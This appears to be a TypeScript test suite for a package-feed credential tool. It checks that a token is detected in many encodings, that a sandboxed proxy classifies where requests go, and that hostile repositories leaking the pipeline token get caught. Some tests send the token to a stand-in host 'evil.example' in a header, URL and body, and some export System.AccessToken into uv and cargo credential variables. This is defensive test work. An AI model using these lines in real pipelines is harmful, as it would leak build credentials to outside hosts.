import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { request as requestHttp } from "node:http";
import { request as requestHttps, type RequestOptions } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { HttpsProxyAgent } from "https-proxy-agent";
import { startFeed, type RunningFeed } from "../../sandbox/feed/start-feed";
import { createTestAuthority, type TestAuthority } from "../../sandbox/feed/tls/test-authority";
import { requireClient } from "../clients/found-clients";
import { fixtureWorld } from "../e2e/fixture-world";
import { failureOf } from "./failure-of";
import { figures } from "./figures";
import type { HostileRepository } from "./hostile-repository";
import { Internet } from "./internet";
import { Laboratory } from "./laboratory";
import { cargoRepositories } from "./repositories/cargo";
import { uvRepositories } from "./repositories/uv";
import { TokenSearch } from "./token-forms";
import { tryRepository, type Verdict } from "./try-repositories";

const token = `${"a+b/c=".repeat(8)}.${"<d&\"e'%".repeat(8)}`;

describe("hardening: the search for a token", () => {
  const search = new TokenSearch(token);
  const bytes = Buffer.from(token);
  const escaped = token.replace(
    /[&<>"']/g,
    (character) =>
      ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;" })[character] ?? "",
  );
  const planted: Readonly<Record<string, string>> = {
    raw: token,
    "its first part": token.split(".")[0] ?? "",
    "base64, nothing before": bytes.toString("base64"),
    "base64, one byte before": Buffer.from(`:${token}`).toString("base64"),
    "base64, two bytes before": Buffer.from(`u:${token}`).toString("base64"),
    "base64, a user name before": Buffer.from(`VssSessionToken:${token}`).toString("base64"),
    base64url: Buffer.from(`x:${token}`).toString("base64url"),
    "base64 for a URL": encodeURIComponent(bytes.toString("base64")),
    "for a URL": encodeURIComponent(token),
    "for JSON": JSON.stringify(token),
    "for XML": escaped,
    hex: bytes.toString("hex"),
    "hex in capitals": bytes.toString("hex").toUpperCase(),
    "percent for every byte": bytes.toString("hex").replace(/../g, "%$&"),
    "back to front": Array.from(token).reverse().join(""),
  };
  for (const [form, text] of Object.entries(planted)) {
    it(`finds it: ${form}`, () => {
      assert.notDeepEqual(search.forms(`before ${text} after`), []);
      figures.planted.count(1);
    });
  }

  it("finds nothing in another token", () => {
    const other = token.replace(/[^.]/g, "x");
    const forms = [other, Buffer.from(other).toString("base64"), Buffer.from(other).toString("hex")];
    assert.deepEqual(
      forms.flatMap((text) => search.forms(text)),
      [],
    );
  });
});

describe("hardening: the evil hosts", () => {
  const folder = mkdtempSync(join(tmpdir(), "feedpass-planted-"));
  let feed: RunningFeed;
  let untrusted: TestAuthority;
  let internet: Internet;

  before(async () => {
    const tokens = { job: token, contoso: "other" };
    feed = await startFeed({
      organizations: fixtureWorld(join(folder, "upstreams"), tokens),
      services: { folder: join(folder, "authority") },
      idleStopSeconds: 120,
    });
    untrusted = await createTestAuthority(join(folder, "untrusted"));
    assert.ok(feed.authority !== undefined);
    internet = await Internet.open(feed, feed.authority, untrusted);
  });

  beforeEach(() => internet.arrivals.splice(0));

  after(async () => {
    await internet.close();
    await feed.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  const send = (url: string, options: RequestOptions, body = ""): Promise<number> =>
    new Promise((resolve, reject) => {
      const request = url.startsWith("https:") ? requestHttps : requestHttp;
      request(url, { method: "POST", ...options }, (answer) => {
        answer.resume().on("end", () => {
          resolve(answer.statusCode ?? 0);
        });
      })
        .on("error", reject)
        .end(body);
    });

  const through = (door: "proxy" | "repository"): RequestOptions => ({
    agent: new HttpsProxyAgent(internet.address(door)),
    ca: readFileSync(door === "proxy" ? (feed.caFile ?? "") : untrusted.caFile),
  });

  const places: readonly (readonly [string, () => Promise<number>, string])[] = [
    ["another host", () => send("https://evil.example/x", through("proxy"), "body"), "elsewhere"],
    [
      "another port of the feed's host",
      () => send("https://pkgs.dev.azure.com:8443/fabrikam/", through("proxy")),
      "elsewhere",
    ],
    [
      "the feed's host with a dot",
      () => send("https://pkgs.dev.azure.com./fabrikam/", through("proxy")),
      "elsewhere",
    ],
    [
      "another organization",
      () => send("https://pkgs.dev.azure.com/contoso/", through("proxy")),
      "other organization",
    ],
    [
      "another organization by dots",
      () => send("https://pkgs.dev.azure.com/fabrikam/%2e%2e/contoso/", through("proxy")),
      "other organization",
    ],
    [
      "the job's own organization",
      () => send("https://pkgs.dev.azure.com/fabrikam/", through("proxy")),
      "own",
    ],
    [
      "the old host of the job's own",
      () => send("https://fabrikam.pkgs.visualstudio.com/_packaging/", through("proxy")),
      "own",
    ],
    [
      "the repository's proxy, which reads TLS",
      () => send("https://pkgs.dev.azure.com/fabrikam/", through("repository")),
      "elsewhere",
    ],
    [
      "the feed's host by http",
      () => send(internet.address("proxy"), { path: "http://pkgs.dev.azure.com/fabrikam/" }),
      "elsewhere",
    ],
    [
      "another port of this machine",
      () => send(`${internet.address("proxy")}/DefaultCollection/`, {}),
      "elsewhere",
    ],
    ["the job's own collection", () => send(`${internet.address("server")}/DefaultCollection/`, {}), "own"],
    [
      "another collection",
      () => send(`${internet.address("server")}/OtherCollection/`, {}),
      "other organization",
    ],
  ];
  for (const [title, ask, place] of places) {
    it(`knows ${title} from the others, and writes down what arrives`, async () => {
      await ask();
      assert.deepEqual(
        internet.arrivals.map((arrival) => arrival.place),
        [place],
      );
      assert.match(internet.arrivals[0]?.content ?? "", /^host: /im);
    });
  }

  it("finds a token in a header, in an address and in a body", async () => {
    const search = new TokenSearch(token);
    await send("https://evil.example/", { ...through("proxy"), auth: `someone:${token}` });
    await send(`https://evil.example/${encodeURIComponent(token)}`, through("proxy"));
    await send("https://evil.example/", through("proxy"), JSON.stringify({ token }));
    const found = internet.arrivals.map(
      ({ address, content }) => search.forms(`${address}\n${content}`).length > 0,
    );
    assert.deepEqual(found, [true, true, true]);
    figures.planted.count(found.length);
  });
});

describe("hardening: the verdict on a repository", () => {
  const innocent: Verdict = {
    leaks: [],
    authorizedElsewhere: [],
    requests: 1,
    elsewhere: 0,
    works: true,
    log: "",
  };
  const refusal =
    "pyproject.toml:7 switches off the verification of certificates for the feed's host; take the line out.";
  const table: readonly (readonly [
    string,
    HostileRepository["expect"],
    Partial<Verdict>,
    RegExp | undefined,
  ])[] = [
    ["a leak", "quiet", { leaks: ["elsewhere"] }, /the token went to/],
    ["an innocent project that is refused", "works", { refusal }, /refused/],
    ["an innocent project that does not work", "works", { works: false }, /does not serve/],
    ["no refusal where there must be one", "refused", {}, /not refused/],
    ["a client that asked nobody", "asked", { requests: 0 }, /nobody was asked/],
    ["a refusal that says nothing", "asked", { refusal: "no" }, /says too little/],
    [
      "a task that broke down",
      "asked",
      { refusal: `TypeError: x\n    at plan (index.js:1:2)\n${refusal}` },
      /broke down/,
    ],
    ["a refusal that says why", "asked", { refusal }, undefined],
    ["an innocent project that works", "works", {}, undefined],
  ];
  for (const [title, expect, part, expected] of table) {
    it(`${expected === undefined ? "is content with" : "names"} ${title}`, () => {
      const repository: HostileRepository = { id: "x", title: "", files: () => ({}), run: "", expect };
      const failure = failureOf(repository, { ...innocent, ...part });
      if (expected === undefined) assert.equal(failure, undefined);
      else assert.match(failure ?? "", expected);
      figures.planted.count(expected === undefined ? 0 : 1);
    });
  }
});

/** What an authenticating task must not do, done by a step: credentials by a name alone. */
describe("hardening: a job that gives the token by name", () => {
  const planted: readonly (readonly [string, "uv" | "cargo", string])[] = [
    [
      "uv-path-dependency",
      "uv",
      'export UV_INDEX_FIBER_USERNAME=x UV_INDEX_FIBER_PASSWORD="$(System.AccessToken)"',
    ],
    ["uv-expand-direct-index", "uv", 'export UV_INDEX_FIBER_PASSWORD="$(System.AccessToken)"'],
    ["uv-direct", "uv", 'export UV_INDEX_FIBER_USERNAME=x UV_INDEX_FIBER_PASSWORD="$(System.AccessToken)"'],
    [
      "cargo-nested-fetch",
      "cargo",
      'export CARGO_REGISTRIES_FIBER_TOKEN="Bearer $(System.AccessToken)" CARGO_REGISTRIES_FIBER_CREDENTIAL_PROVIDER=cargo:token',
    ],
  ];
  for (const [id, client, exports] of planted) {
    it(`is caught by ${id}`, async function () {
      const nodes = { node20: requireClient(this, "node20"), node24: requireClient(this, "node24") };
      const setting = { task: "", programs: [requireClient(this, client).path] };
      const repository = [...uvRepositories, ...cargoRepositories].find((each) => each.id === id);
      assert.ok(repository !== undefined && typeof repository.run === "string");
      const laboratory = await Laboratory.open(nodes);
      try {
        const run = `${exports}\n${repository.run}`;
        const verdict = await tryRepository(laboratory, setting, { ...repository, tasks: [], run });
        assert.match(failureOf(repository, verdict) ?? "", /the token went to/, verdict.log);
        figures.planted.count(1);
      } finally {
        await laboratory.close();
      }
    });
  }
});
